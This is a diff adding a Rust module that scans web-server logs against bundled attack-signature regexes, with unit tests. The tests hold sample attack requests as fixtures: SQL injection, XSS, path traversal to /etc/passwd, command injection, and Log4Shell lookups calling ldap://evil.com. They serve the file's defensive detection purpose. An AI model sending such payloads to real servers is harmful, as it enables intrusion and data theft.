@@ -0,0 +1,297 @@
+use std::collections::HashMap;
+use std::fmt::Display;
+
+use chrono::{DateTime, FixedOffset};
+use color_eyre::eyre::{Result, eyre};
+use regex::Regex;
+
+use crate::{LogEntry, percent_decode};
+
+/// Bundled attack signatures
+pub const BUNDLED_SIGNATURES: &str = include_str!("signatures.txt");
+
+/// How many times value is decoded to catch double encoding
+const DECODE_PASSES: usize = 2;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Field {
+    Request,
+    Agent,
+    Referrer,
+}
+
+/// Attack signature
+#[derive(Debug)]
+pub struct Rule {
+    pub name: String,
+    fields: Vec<Field>,
+    regex: Regex,
+}
+
+/// Log entry field that matched rule
+#[derive(Debug)]
+pub struct SignatureMatch {
+    pub time: DateTime<FixedOffset>,
+    pub client: String,
+    pub status: u16,
+    pub field: Field,
+    /// Decoded field value
+    pub value: String,
+}
+
+/// All matches of a rule
+#[derive(Debug)]
+pub struct RuleMatches {
+    pub rule: String,
+    pub hits: u64,
+    /// Hits by client
+    pub clients: HashMap<String, u64>,
+    /// First matches of the rule
+    pub samples: Vec<SignatureMatch>,
+}
+
+/// Matches log entries against attack signatures
+#[derive(Debug)]
+pub struct SignatureScanner {
+    rules: Vec<Rule>,
+    matches: Vec<RuleMatches>,
+    samples: usize,
+}
+
+/// Parses rules one per line. See `signatures.txt` for format description
+///
+/// # Errors
+///
+/// This function will return an error if any rule has invalid format or regular expression
+pub fn parse_rules(text: &str) -> Result<Vec<Rule>> {
+    let mut rules = vec![];
+    for (number, line) in text.lines().enumerate() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let mut parts = line.splitn(2, char::is_whitespace);
+        let name = parts.next().unwrap_or_default();
+        let mut parts = parts
+            .next()
+            .unwrap_or_default()
+            .trim_start()
+            .splitn(2, char::is_whitespace);
+        let fields = parts.next().unwrap_or_default();
+        let pattern = parts.next().unwrap_or_default().trim();
+        if pattern.is_empty() {
+            return Err(eyre!(
+                "Rule at line {} must have name, fields and regex",
+                number + 1
+            ));
+        }
+        let fields = if fields == "*" {
+            vec![Field::Request, Field::Agent, Field::Referrer]
+        } else {
+            fields
+                .split(',')
+                .map(|f| match f {
+                    "request" => Ok(Field::Request),
+                    "agent" => Ok(Field::Agent),
+                    "referrer" => Ok(Field::Referrer),
+                    _ => Err(eyre!("Unknown field '{f}' at line {}", number + 1)),
+                })
+                .collect::<Result<_>>()?
+        };
+        let regex = Regex::new(pattern)
+            .map_err(|e| eyre!("Invalid regex of rule '{name}' at line {}: {e}", number + 1))?;
+        rules.push(Rule {
+            name: name.to_owned(),
+            fields,
+            regex,
+        });
+    }
+    Ok(rules)
+}
+
+impl SignatureScanner {
+    /// Creates scanner that keeps first `samples` matches of each rule
+    #[must_use]
+    pub fn new(rules: Vec<Rule>, samples: usize) -> Self {
+        let matches = rules
+            .iter()
+            .map(|r| RuleMatches {
+                rule: r.name.clone(),
+                hits: 0,
+                clients: HashMap::new(),
+                samples: vec![],
+            })
+            .collect();
+        Self {
+            rules,
+            matches,
+            samples,
+        }
+    }
+
+    pub fn add(&mut self, entry: &LogEntry) {
+        let request = percent_decode(&entry.request, DECODE_PASSES);
+        let agent = percent_decode(&entry.agent, DECODE_PASSES);
+        let referrer = percent_decode(&entry.referrer, DECODE_PASSES);
+        for (rule, matches) in self.rules.iter().zip(self.matches.iter_mut()) {
+            let matched = rule.fields.iter().find_map(|f| {
+                let value = match f {
+                    Field::Request => &request,
+                    Field::Agent => &agent,
+                    Field::Referrer => &referrer,
+                };
+                rule.regex.is_match(value).then_some((f, value))
+            });
+            if let Some((field, value)) = matched {
+                matches.hits += 1;
+                if let Some(hits) = matches.clients.get_mut(&entry.clientip) {
+                    *hits += 1;
+                } else {
+                    matches.clients.insert(entry.clientip.clone(), 1);
+                }
+                if matches.samples.len() < self.samples {
+                    matches.samples.push(SignatureMatch {
+                        time: entry.timestamp,
+                        client: entry.clientip.clone(),
+                        status: entry.status,
+                        field: *field,
+                        value: value.to_string(),
+                    });
+                }
+            }
+        }
+    }
+
+    /// Returns matched rules sorted by hits descending
+    #[must_use]
+    pub fn finish(self) -> Vec<RuleMatches> {
+        let mut result: Vec<_> = self.matches.into_iter().filter(|m| m.hits > 0).collect();
+        result.sort_by_key(|m| std::cmp::Reverse(m.hits));
+        result
+    }
+}
+
+impl Display for Field {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Field::Request => write!(f, "request"),
+            Field::Agent => write!(f, "agent"),
+            Field::Referrer => write!(f, "referrer"),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use test_case::test_case;
+
+    use super::*;
+    use crate::LogEntryBuilder;
+
+    #[test]
+    fn bundled_rules_valid() {
+        // Arrange
+
+        // Act
+        let rules = parse_rules(BUNDLED_SIGNATURES);
+
+        // Assert
+        assert!(rules.is_ok());
+    }
+
+    #[test_case("rule request")]
+    #[test_case("rule host .*")]
+    #[test_case("rule request (")]
+    fn invalid_rules(text: &str) {
+        // Arrange
+
+        // Act
+        let rules = parse_rules(text);
+
+        // Assert
+        assert!(rules.is_err());
+    }
+
+    #[test_case("/items?id=1%20UNION%20SELECT%20password%20FROM%20users", "sqli-union")]
+    #[test_case("/items?id=1'%20or%20'1'='1", "sqli-tautology")]
+    #[test_case("/items?id=1+AND+SLEEP(5)", "sqli-functions")]
+    #[test_case("/search?q=%253Cscript%253Ealert(1)%253C/script%253E", "xss-script")]
+    #[test_case("/search?q=<img src=x onerror=alert(1)>", "xss-event-handler")]
+    #[test_case("/download?file=../../../../etc/passwd", "path-traversal")]
+    #[test_case("/ping?host=127.0.0.1;cat%20/etc/hosts", "command-injection")]
+    #[test_case("/?x=${jndi:ldap://evil.com/a}", "log4shell")]
+    #[test_case("/?x=${${lower:j}ndi:ldap://evil.com/a}", "log4shell")]
+    fn bundled_rules_match(request: &str, expected: &str) {
+        // Arrange
+        let rules = parse_rules(BUNDLED_SIGNATURES).unwrap();
+        let mut scanner = SignatureScanner::new(rules, 1);
+        let entry = LogEntryBuilder::new()
+            .request(request)
+            .client("203.0.113.7")
+            .build();
+
+        // Act
+        scanner.add(&entry);
+
+        // Assert
+        let matches = scanner.finish();
+        assert!(
+            matches.iter().any(|m| m.rule == expected),
+            "{:?}",
+            matches.iter().map(|m| &m.rule).collect::<Vec<_>>()
+        );
+    }
+
+    #[test_case("/")]
+    #[test_case("/index.html?utm_source=google&id=5")]
+    #[test_case("/api/users/123?sort=name&order=asc")]
+    #[test_case("/search?q=select+a+union+member")]
+    #[test_case("/blog/2024/05/01/hello-world")]
+    fn bundled_rules_not_match_legitimate_requests(request: &str) {
+        // Arrange
+        let rules = parse_rules(BUNDLED_SIGNATURES).unwrap();
+        let mut scanner = SignatureScanner::new(rules, 1);
+        let entry = LogEntryBuilder::new()
+            .request(request)
+            .agent("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/126.0")
+            .referrer("https://www.google.com/")
+            .build();
+
+        // Act
+        scanner.add(&entry);
+
+        // Assert
+        let matches = scanner.finish();
+        assert!(
+            matches.is_empty(),
+            "{:?}",
+            matches.iter().map(|m| &m.rule).collect::<Vec<_>>()
+        );
+    }
+
+    #[test]
+    fn matches_counted_per_rule() {
+        // Arrange
+        let rules = parse_rules("traversal request \\.\\./").unwrap();
+        let mut scanner = SignatureScanner::new(rules, 1);
+
+        // Act
+        for client in ["1.1.1.1", "2.2.2.2", "1.1.1.1"] {
+            scanner.add(
+                &LogEntryBuilder::new()
+                    .request("/%2e%2e/secret")
+                    .client(client)
+                    .status(404)
+                    .build(),
+            );
+        }
+
+        // Assert
+        let matches = scanner.finish();
+        assert_eq!(matches[0].hits, 3);
+        assert_eq!(matches[0].clients.len(), 2);
+        assert_eq!(matches[0].samples.len(), 1);
+        assert_eq!(matches[0].samples[0].value, "/../secret");
+        assert_eq!(matches[0].samples[0].status, 404);
+    }
+}